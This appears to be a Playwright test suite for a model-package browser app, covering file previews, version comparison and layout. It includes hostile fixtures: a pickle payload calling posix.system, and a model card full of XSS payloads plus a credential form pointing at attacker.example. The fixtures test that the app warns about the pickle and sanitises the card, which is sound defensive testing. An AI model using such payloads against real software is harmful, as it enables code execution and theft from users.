import { mkdir, readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { startTestEngine } from '../../testkit/test-engine.ts'
import { ggufText, writeGguf, writeSafetensors } from '../../testkit/weights-files.ts'
import { fillExampleStore } from '../example/fill-store.ts'
import { packageRow } from '../pages/browse.ts'
import { chooseSaveFolder } from '../pages/window.ts'
import { writeHome } from '../prepare-home.ts'
import { expect, testWithExample as test } from '../with-store.ts'

test('weights and tables are looked at without installing them', async ({ app: { page } }) => {
  await packageRow(page, 'Speech intent classifier').dblclick()
  await page.getByRole('tab', { name: 'Files' }).click()
  await page.getByRole('treeitem', { name: 'encoder.safetensors' }).click()
  const preview = page.getByRole('region', { name: 'Preview' })
  await expect(preview.getByText(/^Read from the first \d\.\d+ kB in the store/)).toBeVisible()
  await expect(preview.getByRole('row').filter({ hasText: 'decoder.0.attn.k.weight' })).toContainText('F16128 × 9')
  await expect(preview).toContainText('Stored asF16 and F32')
  await expect(preview.getByText('12 of 21 tensors.')).toBeVisible()
  await preview.getByRole('button', { name: 'Show all' }).click()
  await expect(preview.getByRole('row').filter({ hasText: 'decoder.norm.weight' })).toContainText('512 B')

  await page.getByRole('treeitem', { name: 'report.csv' }).click()
  await expect(preview.getByRole('columnheader', { name: 'among_three' })).toBeVisible()
  await expect(preview.getByRole('cell', { name: 'cancel_order' }).first()).toBeVisible()
})

const pixel = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='

test.describe('a file of each kind', () => {
  test.use({
    prepareHome: async ({ workFolder }, use) =>
      use(async (home) => {
        const folders = { 'Team models': join(workFolder, 'kinds') }
        for (const each of [home, join(workFolder, 'publisher')]) await writeHome(each, { folders })
        const source = join(workFolder, 'each_kind')
        await mkdir(folders['Team models'])
        await mkdir(source)
        const gguf = writeGguf({
          pairs: [['general.architecture', 8, ggufText('llama')]],
          tensors: [{ name: 'blk.0.weight', type: 12, shape: [256, 4] }],
        })
        const weights = writeSafetensors({ bias: { dtype: 'F32', shape: [8] } })
        for (const [name, content] of [
          ['chart.png', Buffer.from(pixel, 'base64')],
          ['config.json', '{"layers": [1, 2], "bias": false}'],
          ['notes.md', '# Notes\n\n- one\n- **two**\n'],
          ['scaler.pkl', 'cposix\nsystem\n(S"ls"\ntR.'],
          ['tiny.gguf', gguf],
          ['nothing.json', ''],
          ['nothing.bin', ''],
          ['half.safetensors', weights.subarray(0, weights.length - 1)],
          ['whole.safetensors', weights],
          ['half.json', '{"layers": [1, 2'],
        ] as const)
          await writeFile(join(source, name), content)
        const recipe = { name: 'each_kind', version: '1.0.0', title: 'Each kind', include: ['*'] }
        await writeFile(join(source, 'package.json'), JSON.stringify(recipe))
        const engine = await startTestEngine(join(workFolder, 'publisher'))
        expect((await engine.publish(source, {}, 'team-models')).state.kind).toBe('done')
        await engine.stop()
      }),
  })

  test('is shown as what it is, and one that is empty or ends in the middle as that', async ({ app: { page } }) => {
    await packageRow(page, 'Each kind').dblclick()
    await page.getByRole('tab', { name: 'Files' }).click()
    const preview = page.getByRole('region', { name: 'Preview' })
    const show = async (name: string) => {
      await page.getByRole('treeitem', { name }).click()
      await expect(preview.getByRole('heading', { name, level: 2 })).toBeVisible()
    }
    await show('chart.png')
    const picture = preview.getByRole('img', { name: 'chart.png' })
    await expect.poll(() => picture.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth)).toBe(1)
    await show('config.json')
    await expect(preview.locator('pre')).toHaveText('{\n  "layers": [\n    1,\n    2\n  ],\n  "bias": false\n}')
    await show('notes.md')
    await expect(preview.getByRole('heading', { name: 'Notes', exact: true })).toBeVisible()
    await expect(preview.getByRole('listitem')).toHaveText(['one', 'two'])
    await show('scaler.pkl')
    await expect(preview).toContainText('Loading this file runs code of whoever made it.')
    await expect(preview.getByRole('listitem')).toHaveText(['posix.system'])
    await expect(preview).not.toContainText(/safe\b/i)
    await show('tiny.gguf')
    await expect(preview.getByRole('row').filter({ hasText: 'blk.0.weight' })).toContainText('Q4_K')
    await expect(preview.getByRole('row').filter({ hasText: 'general.architecture' })).toContainText('llama')
    await expect(preview.locator('.model-facts')).toContainText('Parameters1,024')

    for (const name of ['nothing.json', 'nothing.bin']) {
      await show(name)
      await expect(preview).toContainText('This file is empty.')
      await expect(preview).toContainText('0 B')
      await expect(preview.locator('pre')).toHaveCount(0)
      await expect(preview.getByRole('status')).toHaveCount(0)
    }
    const isCut = preview.getByRole('status').filter({ hasText: 'This file ends before its weights do' })
    await show('half.safetensors')
    await expect(isCut).toBeVisible()
    await expect(preview.getByRole('row').filter({ hasText: 'bias' })).toContainText('F32')
    await show('whole.safetensors')
    await expect(preview.getByRole('row').filter({ hasText: 'bias' })).toContainText('F32')
    await expect(isCut).toHaveCount(0)
    await show('half.json')
    await expect(preview.getByRole('status')).toContainText('This is no valid JSON.')
    await expect(preview.locator('pre')).toHaveText('{"layers": [1, 2')
  })
})

test('one file is saved without installing the package', async ({ app, workFolder }) => {
  const { page } = app
  await packageRow(page, 'Speech intent classifier').dblclick()
  await page.getByRole('tab', { name: 'Files' }).click()
  await page.getByRole('treeitem', { name: 'encoder.safetensors' }).click()
  const save = page.getByRole('button', { name: 'Save this file…' })
  await chooseSaveFolder(app, workFolder, 'encoder.safetensors', () => save.click())
  await expect(page.getByText(/^Saved as .*encoder\.safetensors$/)).toBeVisible()
  expect((await readFile(join(workFolder, 'encoder.safetensors'))).subarray(8, 9).toString()).toBe('{')
})

test('two versions are compared, by keyboard', async ({ app: { page } }) => {
  await packageRow(page, 'Speech intent classifier').dblclick()
  await page.getByRole('tab', { name: 'Versions' }).click()
  await expect(page.getByText('Mark two versions to see what changed between them.')).toBeVisible()
  const box = (version: string) => page.getByRole('checkbox', { name: `Compare ${version}` })
  await box('2.0.3').focus()
  await page.keyboard.press('Space')
  await expect(page.getByText('Mark another version to see what changed between it and 2.0.3.')).toBeVisible()
  await box('2.1.0').focus()
  await page.keyboard.press('Space')
  const changes = page.getByRole('region', { name: 'What changed from 2.0.3 to 2.1.0' })
  await expect(changes.getByRole('listitem')).toHaveCount(1)
  await expect(changes.getByRole('listitem')).toContainText('Changedmodel/encoder.safetensors')
  await expect(changes).toContainText('1 changed')
  await expect(changes).toContainText('8 the same')
  await box('2.0.0').focus()
  await page.keyboard.press('Space')
  await expect(page.getByRole('region', { name: 'What changed from 2.0.0 to 2.1.0' })).toBeVisible()
})

test('the version that is looked at stays from tab to tab, and is named', async ({ app: { page } }) => {
  await packageRow(page, 'Speech intent classifier').dblclick()
  const tab = (name: string) => page.getByRole('tab', { name })
  await tab('Versions').click()
  await expect(page.getByText('Looking at')).toBeHidden()
  await page.getByRole('row').filter({ hasText: '2.0.3' }).getByRole('button', { name: '2.0.3' }).first().click()
  await expect(page.getByText('Looking at 2.0.3')).toBeVisible()
  for (const name of ['Overview', 'Versions', 'Files']) {
    await tab(name).click()
    await expect(page.getByText('Looking at 2.0.3')).toBeVisible()
  }
})

const hostileCard = `# Model

<script>window.attacked = 'script'</script>
<img src="https://attacker.example/x.png" onerror="window.attacked = 'img'">
<svg onload="window.attacked = 'svg'"></svg>
<iframe src="https://attacker.example"></iframe>
<form action="https://attacker.example"><input name="secret"><button class="button primary">Sign in</button></form>
<style>body { display: none }</style>
<p class="toast" id="root" style="position: fixed; inset: 0" onclick="window.attacked = 'click'">plain words</p>

<a href="javascript:window.attacked = 'link'">no link</a>
[also none](javascript:window.attacked='md'), [nor this](data:text/html,x), [this is one](https://example.org/card)
![A chart](https://attacker.example/chart.png)

| Language | Calls |
|---|--:|
| English | 4,120 |

<details><summary>More</summary><p>folded</p></details>

- [x] done
`

test.describe('a model card made to harm', () => {
  test.use({
    store: async ({ workFolder }, use) => {
      const store = `${workFolder}/store`
      const hostile = {
        name: 'hostile',
        title: 'Hostile',
        description: '<b onclick="window.attacked = 1">bold</b>',
        tags: ['text'],
        license: 'MIT',
        files: [['a.bin', 1]],
        readme: hostileCard,
        versions: [{ version: '1.0.0', hoursAgo: 1, by: '<i>Ana</i>' }],
      } as const
      await fillExampleStore(store, { packages: [hostile] })
      await use(store)
    },
  })

  test('is only read', async ({ app: { page } }) => {
    const asked: string[] = []
    page.on('request', (request) => asked.push(request.url()))
    await packageRow(page, 'Hostile').dblclick()
    const card = page.getByRole('article')
    await expect(card).toContainText('plain words')
    await expect(card.getByRole('heading', { name: 'Model', level: 2 })).toBeVisible()
    await expect(card).toContainText('A chart')
    await expect(card.getByRole('cell', { name: '4,120' })).toBeVisible()
    await expect(card.getByText('folded')).toBeHidden()
    await card.getByText('More').click()
    await expect(card.getByText('folded')).toBeVisible()
    await card.getByText('plain words').click()
    await card.getByText('no link').click()

    await expect(card.locator('script, img, svg, iframe, form, input, button, style, object, embed')).toHaveCount(0)
    await expect(card.locator('[id], [style], [onclick], [name]')).toHaveCount(0)
    expect(await card.locator('[class]').evaluateAll((found) => found.map(({ className }) => className))).toEqual([
      'end',
      'end',
    ])
    await expect(card.getByRole('link')).toHaveCount(1)
    await expect(card.getByRole('link')).toHaveAttribute('href', 'https://example.org/card')
    expect(await page.evaluate(() => 'attacked' in window)).toBe(false)
    expect(asked.filter((url) => url.includes('attacker'))).toEqual([])
  })
})

test.describe('a long title without a space', () => {
  const title = 'Long'.repeat(25)
  test.use({
    windowSize: { width: 900, height: 600 },
    store: async ({ workFolder }, use) => {
      const store = `${workFolder}/store`
      const long = { name: 'long', title, description: '', tags: [], license: 'MIT', files: [['a.bin', 1]] } as const
      await fillExampleStore(store, {
        packages: [{ ...long, versions: [{ version: '1.0.0', hoursAgo: 1, by: 'Ana' }] }],
      })
      await use(store)
    },
  })

  test('stays within the window, the sheet and its own column', async ({ app: { page } }) => {
    await packageRow(page, title).dblclick()
    const install = page.getByRole('button', { name: 'Install 1.0.0' })
    const heading = page.getByRole('heading', { level: 1, name: title })
    const room = () => page.evaluate(() => document.documentElement.scrollWidth)
    await expect(install).toBeInViewport({ ratio: 1 })
    expect(await room()).toBeLessThanOrEqual(900)
    const edges = await heading.evaluate((element) => ({ full: element.scrollWidth, seen: element.clientWidth }))
    expect(edges.full).toBeLessThanOrEqual(edges.seen)
    await install.click()
    const inSheet = page.getByRole('dialog').getByRole('heading', { level: 2 }).first()
    const cut = await inSheet.evaluate((element) => ({ full: element.scrollWidth, seen: element.clientWidth }))
    expect(cut.full).toBeLessThanOrEqual(cut.seen)
  })
})
